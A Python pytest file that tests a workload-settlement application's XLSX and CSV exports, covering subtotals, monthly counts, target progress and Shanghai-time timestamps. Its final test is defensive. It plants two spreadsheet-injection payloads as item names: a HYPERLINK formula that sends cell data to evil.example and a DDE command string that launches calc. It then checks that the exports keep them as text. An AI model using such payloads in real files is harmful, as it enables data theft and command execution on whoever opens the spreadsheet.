"""Exports: the detail sheet with subtotals (XLSX/CSV), counts by month, progress against volumes and targets."""
from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlalchemy import select

from api.extensions import db
from storage.models import ServiceLine, WorkloadEntry
from tests.settlement_helpers import completed_items, entry_ids, ledger_sum

JUNE = datetime(2026, 6, 10, 3, 0, tzinfo=UTC)
JULY = datetime(2026, 7, 2, 3, 0, tzinfo=UTC)


def _ledger(world):
    a = completed_items(2, prefix="XA", channels=("pc", "mobile"), at=JUNE)
    b = completed_items(3, prefix="XB", line="2", channels=("kiosk",), department="DB", at=JULY,
                        difficulty="1.25")
    c = completed_items(1, prefix="XC", channels=("pc",), department="DB", at=JULY)
    r = world.post("pm", f"/api/v1/workload/entries/{entry_ids(a)[1]}/reverse", json={"reason": "重复计量"})
    assert r.status_code == 201
    return a, b, c


def test_xlsx_and_csv_totals_equal_the_api(world):
    _ledger(world)
    api = world.get("pm", "/api/v1/workload").get_json()
    total = api["totals"]["amount"]
    # entry_ids(a)[1] is XA-0's mobile entry: it is reversed.
    assert total == float(ledger_sum()) == 2 * 45000 + 72000 + 3 * 80000 * 1.25 + 45000

    r = world.get("auditor", "/api/v1/exports/workload.xlsx")
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    book = openpyxl.load_workbook(io.BytesIO(r.data), read_only=True)
    rows = list(book["工作量统计明细表"].iter_rows(values_only=True))
    assert rows[0][0] == "合同编号" and rows[0][11] == "金额（元）"
    entries = [row for row in rows[1:] if isinstance(row[14], int)]
    subtotals = [row for row in rows[1:] if row[0] == "小计"]
    line_totals = [row for row in rows[1:] if row[0] == "服务类别合计"]
    grand = [row for row in rows[1:] if row[0] == "合计"]
    assert len(entries) == len(api["entries"]) == 9
    assert grand[0][11] == pytest.approx(total)
    assert sum(row[11] for row in entries) == pytest.approx(total)
    assert sum(row[11] for row in subtotals) == pytest.approx(total)
    assert sum(row[11] for row in line_totals) == pytest.approx(total)
    # Per service line × channel: line 1 PC, line 1 mobile, line 2 kiosk.
    assert [(row[1], row[6], row[11]) for row in subtotals] == [
        ("1", "PC端", 135000.0), ("1", "移动端", 72000.0), ("2", "自助终端", 300000.0)]
    assert any(row[15] and row[15].startswith("冲销") for row in entries)
    counts = list(book["完成事项统计"].iter_rows(values_only=True))
    assert sum(row[7] for row in counts[1:]) == pytest.approx(total)
    book.close()

    r = world.get("pm", "/api/v1/exports/workload.csv")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert r.data.startswith(b"\xef\xbb\xbf")
    text = r.data.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0][:3] == ["合同编号", "服务类别编号", "服务类别"]
    assert [row for row in parsed if row[0] == "合计"][0][11] == f"{total:.2f}"


def test_counts_by_month_and_progress(world):
    a, b, c = _ledger(world)
    line1 = db.session.execute(select(ServiceLine).where(ServiceLine.code == "1")).scalar_one()
    line1.targets = {"items": 5}
    db.session.commit()
    body = world.get("pm", "/api/v1/exports/counts?contract=SH-YWTB-2025").get_json()
    counts = {(c_["service_line"], c_["channel"], c_["department"], c_["month"]): c_ for c_ in body["counts"]}
    # XA-0's mobile entry was reversed: that item no longer counts on mobile, its amount nets out.
    assert counts[("1", "pc", "DA", "2026-06")]["items"] == 2
    assert counts[("1", "pc", "DA", "2026-06")]["amount"] == 90000.0
    assert counts[("1", "mobile", "DA", "2026-06")]["items"] == 1
    assert counts[("1", "mobile", "DA", "2026-06")]["amount"] == 72000.0
    assert counts[("2", "kiosk", "DB", "2026-07")]["items"] == 3
    assert counts[("1", "pc", "DB", "2026-07")]["items"] == 1
    assert sum(c_["amount"] for c_ in body["counts"]) == float(ledger_sum())
    progress = {(p["service_line"], p["measure"]): p for p in body["progress"]}
    assert progress[("1", "pc")]["completed"] == 3 and progress[("1", "pc")]["target"] == 340
    assert progress[("1", "mobile")]["completed"] == 1
    assert progress[("1", "target:items")]["completed"] == 3 and progress[("1", "target:items")]["ratio"] == 0.6
    assert progress[("2", "kiosk")] == {**progress[("2", "kiosk")], "completed": 3, "target": 46}

    r = world.get("pm", "/api/v1/exports/counts.csv?from=2026-07-01&to=2026-07-31")
    assert r.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[0][4] == "月份" and {row[4] for row in rows[1:]} == {"2026-07"}
    r = world.get("pm", "/api/v1/exports/counts.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(r.data), read_only=True)
    assert book.sheetnames == ["完成事项统计", "完成进度"]
    book.close()
    assert world.get("impl", "/api/v1/exports/counts").status_code == 403


@pytest.fixture
def local_zone_far_from_utc(monkeypatch):
    """The process's own time zone must not leak into exports: SQLite hands timestamps back naive (UTC)."""
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_csv_detail_rows_exactly_in_shanghai_time(world, local_zone_far_from_utc):
    late = datetime(2026, 6, 30, 16, 30, 5, 250000, tzinfo=UTC)  # 00:30 on 1 July in Shanghai
    a = completed_items(1, prefix="XA", channels=("pc", "mobile"), at=late)
    b = completed_items(1, prefix="XB", line="2", channels=("kiosk",), department="DB", at=JULY, difficulty="1.25")
    pc, mobile = entry_ids(a)
    (kiosk,) = entry_ids(b)
    r = world.post("pm", f"/api/v1/workload/entries/{mobile}/reverse", json={"reason": "重复计量, \"二次\""})
    assert r.status_code == 201
    reversal = r.get_json()["id"]
    db.session.get(WorkloadEntry, reversal).tallied_at = datetime(2026, 8, 15, 15, 59, 59, tzinfo=UTC)
    db.session.commit()

    r = world.get("pm", "/api/v1/exports/workload.csv")
    assert r.status_code == 200 and r.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    # Columns 17–21 (completion time, period, difficulty proposed/confirmed by, out of period): entries only.
    tails = [row[16:] for row in rows[1:]]
    assert tails[0] == ["2026-07-01 00:30", "", "", "", "是"] and tails[1] == ["", "", "", "", ""]
    rows = [row[:16] for row in rows]
    line1 = ["SH-YWTB-2025", "1", "单部门事项接入"]
    line2 = ["SH-YWTB-2025", "2", "跨省通办事项接入"]
    assert rows[1:] == [
        line1 + ["事项 XA-0", "XA-0000", "DA", "PC端", "新增接入", "1.00", "1.00", "45000.00", "45000.00",
                 "", "2026-07-01 00:30", str(pc), ""],
        ["小计", "1", "单部门事项接入", "", "", "", "PC端", "", "1.00", "", "", "45000.00", "", "", "", ""],
        line1 + ["事项 XA-0", "XA-0000", "DA", "移动端", "新增接入", "1.00", "1.00", "72000.00", "72000.00",
                 "", "2026-07-01 00:30", str(mobile), ""],
        line1 + ["事项 XA-0", "XA-0000", "DA", "移动端", "新增接入", "-1.00", "1.00", "72000.00", "-72000.00",
                 "", "2026-08-15 23:59", str(reversal), f"冲销 #{mobile}：重复计量, \"二次\""],
        ["小计", "1", "单部门事项接入", "", "", "", "移动端", "", "0.00", "", "", "0.00", "", "", "", ""],
        ["服务类别合计", "1", "单部门事项接入", "", "", "", "", "", "1.00", "", "", "45000.00", "", "", "", ""],
        line2 + ["事项 XB-0", "XB-0000", "DB", "自助终端", "新增接入", "1.00", "1.25", "80000.00", "100000.00",
                 "", "2026-07-02 11:00", str(kiosk), ""],
        ["小计", "2", "跨省通办事项接入", "", "", "", "自助终端", "", "1.00", "", "", "100000.00", "", "", "", ""],
        ["服务类别合计", "2", "跨省通办事项接入", "", "", "", "", "", "1.00", "", "", "100000.00", "", "", "", ""],
        ["合计", "", "", "", "", "", "", "", "2.00", "", "", "145000.00", "", "", "", ""],
    ]


def test_csv_and_xlsx_detail_sheets_carry_the_same_lines(world, local_zone_far_from_utc):
    _ledger(world)
    r = world.get("pm", "/api/v1/exports/workload.csv")
    text_rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    r = world.get("pm", "/api/v1/exports/workload.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(r.data), read_only=True)
    cell_rows = list(book["工作量统计明细表"].iter_rows(values_only=True))
    book.close()
    assert len(text_rows) == len(cell_rows) == 1 + 9 + 3 + 2 + 1  # header, entries, subtotals, line totals, total
    for text_row, cell_row in zip(text_rows, cell_rows, strict=True):
        cells = [f"{v:.2f}" if isinstance(v, float | int) and i in (8, 9, 10, 11) else v
                 for i, v in enumerate(cell_row)]
        assert text_row == ["" if v is None else str(v) for v in cells]


def test_the_detail_sheet_sees_changes_not_yet_flushed(world):
    from engine.money.reports import WorkloadFilter, csv_stream

    (item,) = completed_items(1, prefix="XF", at=JUNE)
    entry = db.session.get(WorkloadEntry, entry_ids([item])[0])
    entry.reason = "未提交的说明"  # pending in the session, as inside a use case before its commit
    entry.reverses_id = entry.id
    text = b"".join(csv_stream(db.session, WorkloadFilter())).decode("utf-8-sig")
    assert f"冲销 #{entry.id}：未提交的说明" in text
    db.session.rollback()


def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(world):
    """An item name is typed by a user; opening an export must never run it as a spreadsheet formula."""
    from storage.models import WorkItem

    ids = completed_items(2, prefix="FX", channels=("pc",), at=JUNE)
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    for item_id, name in zip(ids, hostile, strict=True):
        db.session.get(WorkItem, item_id).name = name
    db.session.commit()

    r = world.get("pm", "/api/v1/exports/workload.xlsx")
    assert r.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(r.data))  # not read-only: data_type tells formula from text
    sheet = book["工作量统计明细表"]
    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value in hostile]
    assert sorted(c.value for c in cells) == sorted(hostile)
    assert all(c.data_type == "s" for c in cells)  # "f" would be a formula
    book.close()

    r = world.get("pm", "/api/v1/exports/workload.csv")
    parsed = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    names = [row[3] for row in parsed[1:] if isinstance(row[3], str) and row[3].lstrip("'") in hostile]
    assert sorted(names) == sorted("'" + h for h in hostile)
    # Numbers that start with a minus sign (reversals) are still numbers, not neutralised text.
    assert all(not row[11].startswith("'") for row in parsed[1:] if row[11])
